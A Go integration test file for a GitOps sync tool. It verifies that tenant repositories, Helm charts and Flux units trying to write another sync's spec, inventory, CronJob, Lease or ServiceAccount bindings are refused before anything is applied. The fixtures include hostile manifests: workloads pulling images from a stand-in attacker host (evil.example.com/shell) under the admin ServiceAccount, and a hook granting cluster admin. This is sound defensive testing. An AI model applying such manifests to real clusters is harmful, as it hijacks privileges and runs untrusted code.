package syncrun

import (
	"fmt"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/gitsync/gitsync/pkg/names"
	"github.com/gitsync/gitsync/pkg/spec"
	"github.com/gitsync/gitsync/tests/gitserver"
)

// takeover returns the files of a tenant repository that tries to take over
// sync admin in namespace ns: its spec (pointing at url), inventory,
// CronJob and Lease, and a Deployment running as its ServiceAccount.
func takeover(ns, url string) map[string]string {
	return map[string]string{
		"deploy/spec.yaml": fmt.Sprintf(`apiVersion: v1
kind: ConfigMap
metadata:
  name: gitsync-admin
data:
  sync.yaml: |
    apiVersion: gitsync.io/v1alpha1
    kind: Sync
    metadata: {name: admin, namespace: %s}
    spec:
      source:
        git: {url: %s, insecure: true, ref: {branch: main}}
      path: ./deploy
`, ns, url),
		"deploy/inventory.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: gitsync-admin-inventory\n",
		"deploy/cron.yaml": `apiVersion: batch/v1
kind: CronJob
metadata:
  name: gitsync-admin
spec:
  schedule: "*/5 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: run, image: evil.example.com/sync-job}]
`,
		"deploy/lease.yaml": "apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata:\n  name: gitsync-admin\nspec:\n  holderIdentity: tenant\n",
		"deploy/runner.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: runner
spec:
  selector: {matchLabels: {app: runner}}
  template:
    metadata: {labels: {app: runner}}
    spec:
      serviceAccountName: gitsync-admin
      containers: [{name: run, image: evil.example.com/shell}]
`,
		"deploy/app.yaml": cm("tenant-app", "1"),
	}
}

// TestRenderOfAnotherSyncsObjectsIsRefused: a tenant sync whose repository
// holds another sync's spec, inventory, CronJob and Lease, or a workload
// running as that sync's ServiceAccount, fails before applying anything,
// naming each object and its file; Render (diff, build) refuses it the
// same way. spec.manageGitsync lets a sync write gitsync's objects.
func TestRenderOfAnotherSyncsObjectsIsRefused(t *testing.T) {
	tenant := newFixture(t, gitserver.Options{})
	admin := tenant.secondSync("admin")
	admin.commit(map[string]string{"deploy/a.yaml": cm("admin-app", "1")})
	admin.install(admin.git.HTTPURL("admin"), "", "")
	admin.mustSucceed(admin.run())
	adminSpec, err := tenant.configMap(names.Spec("admin"))
	if err != nil {
		t.Fatal(err)
	}
	adminInv, err := tenant.configMap(names.Inventory("admin"))
	if err != nil {
		t.Fatal(err)
	}

	tenant.commit(takeover(tenant.ns, tenant.git.HTTPURL("app")))
	tenant.install(tenant.git.HTTPURL("app"), "", "")
	res := tenant.run()
	if res.Outcome != Failed {
		t.Fatalf("a render holding another sync's objects: outcome %s (%s), want Failed", res.Outcome, res.Message)
	}
	t.Log(res.Message)
	ns := tenant.ns
	for _, want := range []string{
		"nothing was applied", "spec.manageGitsync",
		"ConfigMap/" + ns + "/gitsync-admin (deploy/spec.yaml)",
		"ConfigMap/" + ns + "/gitsync-admin-inventory (deploy/inventory.yaml)",
		"CronJob.batch/" + ns + "/gitsync-admin (deploy/cron.yaml): the name gitsync-admin is reserved for a sync's CronJob",
		"Lease.coordination.k8s.io/" + ns + "/gitsync-admin (deploy/lease.yaml)",
		"Deployment.apps/" + ns + "/runner (deploy/runner.yaml): spec.template.spec.serviceAccountName gitsync-admin",
	} {
		if !strings.Contains(res.Message, want) {
			t.Errorf("message does not mention %q", want)
		}
	}
	if strings.Contains(res.Message, "tenant-app") {
		t.Errorf("an ordinary object is named in the refusal: %q", res.Message)
	}
	tenant.mustNotHave("tenant-app")
	if got, _ := tenant.configMap(names.Spec("admin")); got == nil || got.ResourceVersion != adminSpec.ResourceVersion {
		t.Errorf("the admin sync's spec was written: %+v", got)
	}
	if got, _ := tenant.configMap(names.Inventory("admin")); got == nil || got.ResourceVersion != adminInv.ResourceVersion {
		t.Errorf("the admin sync's inventory was written")
	}
	if _, err := env.Client().BatchV1().CronJobs(ns).Get(t.Context(), "gitsync-admin", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the CronJob was applied: %v", err)
	}
	if _, err := env.Client().AppsV1().Deployments(ns).Get(t.Context(), "runner", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the Deployment was applied: %v", err)
	}
	if l, err := env.Client().CoordinationV1().Leases(ns).Get(t.Context(), "gitsync-admin", metav1.GetOptions{}); err == nil && l.Spec.HolderIdentity != nil && *l.Spec.HolderIdentity == "tenant" {
		t.Errorf("the admin sync's Lease was written")
	}
	// The admin sync still runs from its own repository.
	admin.mustSucceed(admin.run())

	// Render, as diff and build use it, refuses the same objects.
	_, err = Render(t.Context(), RenderOptions{Name: tenant.name, Namespace: ns, Config: env.Config()})
	if err == nil || !strings.Contains(err.Error(), "ConfigMap/"+ns+"/gitsync-admin (deploy/spec.yaml)") {
		t.Errorf("Render: %v; want the spec ConfigMap refused", err)
	}

	// manageGitsync: a sync that manages gitsync itself (the bootstrap's
	// root) may write gitsync's objects, here a new sync's spec and
	// ServiceAccount.
	tenant.remove("deploy/spec.yaml", "deploy/inventory.yaml", "deploy/cron.yaml", "deploy/lease.yaml", "deploy/runner.yaml")
	child := spec.New("child", ns)
	child.Spec.Source.Git = &spec.GitSource{URL: tenant.git.HTTPURL("admin"), Insecure: true, Ref: spec.GitRef{Branch: "main"}}
	data, _, err := child.ConfigMapData()
	if err != nil {
		t.Fatal(err)
	}
	tenant.commit(map[string]string{
		"deploy/child.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: gitsync-child\ndata:\n  sync.yaml: |\n" + indent(data, "    "),
		"deploy/sa.yaml":    "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: gitsync-child\n",
	})
	res = tenant.run()
	if res.Outcome != Failed || !strings.Contains(res.Message, "ConfigMap/"+ns+"/gitsync-child (deploy/child.yaml)") {
		t.Errorf("without manageGitsync: %s %q; want the child's spec refused", res.Outcome, res.Message)
	}
	tenant.install(tenant.git.HTTPURL("app"), "", "  manageGitsync: true\n")
	tenant.mustSucceed(tenant.run())
	tenant.mustHave("tenant-app", "gitsync-child")
	if _, err := env.Client().CoreV1().ServiceAccounts(ns).Get(t.Context(), "gitsync-child", metav1.GetOptions{}); err != nil {
		t.Errorf("with manageGitsync the ServiceAccount was not applied: %v", err)
	}
}

func indent(s, prefix string) string {
	lines := strings.SplitAfter(strings.TrimRight(s, "\n"), "\n")
	return prefix + strings.Join(lines, prefix) + "\n"
}

// TestHelmChartHoldingGitsyncObjectsIsRefused: a chart whose templates or
// hooks produce gitsync's objects is refused before its hooks run or
// anything is applied, naming the template files.
func TestHelmChartHoldingGitsyncObjectsIsRefused(t *testing.T) {
	f := newFixture(t, gitserver.Options{})
	f.commit(map[string]string{
		"chart/Chart.yaml":            "apiVersion: v2\nname: app\nversion: 0.1.0\n",
		"chart/templates/config.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app-config\n",
		"chart/templates/sa.yaml":     "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: gitsync-admin\n",
		"chart/templates/hook.yaml": `apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: gitsync-admin
  annotations:
    helm.sh/hook: pre-install
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}
subjects: [{kind: ServiceAccount, name: default}]
`,
	})
	f.chartSpec()
	res := f.run()
	if res.Outcome != Failed {
		t.Fatalf("outcome %s (%s), want Failed", res.Outcome, res.Message)
	}
	t.Log(res.Message)
	if want := "ServiceAccount/" + f.ns + "/gitsync-admin (app/templates/sa.yaml): the name gitsync-admin is reserved"; !strings.Contains(res.Message, want) {
		t.Errorf("message does not mention %q", want)
	}
	f.mustNotHave("app-config")

	// Without the template, the hook is refused before it runs.
	f.remove("chart/templates/sa.yaml")
	res = f.run()
	t.Log(res.Message)
	if want := "RoleBinding.rbac.authorization.k8s.io/" + f.ns + "/gitsync-admin (Helm hook, app/templates/hook.yaml)"; res.Outcome != Failed || !strings.Contains(res.Message, want) {
		t.Errorf("outcome %s, message %q; want Failed naming %q", res.Outcome, res.Message, want)
	}
	f.mustNotHave("app-config")
	if _, err := env.Client().RbacV1().RoleBindings(f.ns).Get(t.Context(), "gitsync-admin", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the hook ran: %v", err)
	}
}

// TestFluxUnitHoldingGitsyncObjectsIsRefused: a Flux Kustomization unit is
// held to the same rule as the sync: its render holding another sync's
// spec fails the unit before it applies anything, naming object and file;
// the sync's own objects and independent units are applied.
func TestFluxUnitHoldingGitsyncObjectsIsRefused(t *testing.T) {
	f := newFluxSync(t, map[string]string{
		"clusters/test/flux-system/gotk-sync.yaml": ownRepository,
		"clusters/test/own.yaml":                   cm("own", "1"),
		"clusters/test/units.yaml":                 kustomization("good", "./good", "") + kustomization("evil", "./evil", ""),
		"good/a.yaml":                              cm("good-a", "1"),
		"evil/a.yaml":                              cm("evil-a", "1"),
		"evil/spec.yaml":                           "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: gitsync-admin\ndata:\n  sync.yaml: x\n",
	})
	res := f.run()
	if res.Outcome != Failed {
		t.Fatalf("outcome %s (%s), want Failed", res.Outcome, res.Message)
	}
	u := units(res)
	evil, ok := u["Kustomization/"+f.ns+"/evil"]
	if !ok {
		t.Fatalf("no unit evil in %v", u)
	}
	if evil.Outcome != Failed || !strings.Contains(evil.Message, "ConfigMap/"+f.ns+"/gitsync-admin (evil/spec.yaml)") ||
		!strings.Contains(evil.Message, "nothing was applied") {
		t.Errorf("unit evil: %s %q; want Failed naming the spec and its file", evil.Outcome, evil.Message)
	}
	if good := u["Kustomization/"+f.ns+"/good"]; good.Outcome != Succeeded {
		t.Errorf("unit good: %s %q", good.Outcome, good.Message)
	}
	f.mustHave("own", "good-a")
	f.mustNotHave("evil-a", "gitsync-admin")
}
